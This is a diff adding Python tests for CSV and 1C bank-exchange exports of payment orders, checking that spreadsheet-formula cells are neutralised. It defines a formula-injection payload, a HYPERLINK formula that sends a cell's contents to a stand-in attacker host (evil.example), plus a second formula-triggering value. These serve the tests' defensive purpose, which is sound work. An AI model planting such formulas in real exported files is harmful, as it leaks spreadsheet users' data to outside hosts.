@@ -165,3 +165,42 @@ def test_csv_has_a_header_and_a_row_per_payout_with_a_decimal_comma():
     assert rows[0][:3] == ["Номер", "Дата", "Сумма"]
     assert rows[1][:4] == ["17", "22.06.2026", "6000,00", "ООО «Альфа»"]
     assert rows[1][-1] == "По акту 1"
+
+
+HOSTILE_NAME = '=HYPERLINK("http://evil.example/?x="&A2,"Beta")'
+
+
+def hostile_order(amount: str = "6000.00") -> PaymentOrder:
+    recipient = Party(**{**ALFA.__dict__, "name": HOSTILE_NAME})
+    return PaymentOrder(
+        number="18",
+        date=dt.date(2026, 6, 22),
+        amount=Decimal(amount),
+        payer=VENDOR,
+        recipient=recipient,
+        purpose="+7 (495) 000-00-00 @evil",
+    )
+
+
+def test_csv_cells_that_a_spreadsheet_reads_as_formulas_are_text():
+    data = register_csv(register(hostile_order()))
+
+    row = list(csv.reader(io.StringIO(data.decode("utf-8-sig")), delimiter=";"))[1]
+    assert row[3] == "'" + HOSTILE_NAME
+    assert row[-1] == "'+7 (495) 000-00-00 @evil"
+    assert row[2] == "6000,00"
+
+
+def test_a_negative_amount_stays_a_number_in_the_csv():
+    data = register_csv(register(hostile_order("-1500.5")))
+
+    row = list(csv.reader(io.StringIO(data.decode("utf-8-sig")), delimiter=";"))[1]
+    assert row[2] == "-1500,50"
+    assert Decimal(row[2].replace(",", ".")) == Decimal("-1500.50")
+
+
+def test_the_1c_exchange_file_keeps_the_exact_text():
+    lines = lines_of(client_bank_exchange(register(hostile_order())))
+
+    assert f"Получатель={HOSTILE_NAME}" in lines
+    assert "НазначениеПлатежа=+7 (495) 000-00-00 @evil" in lines
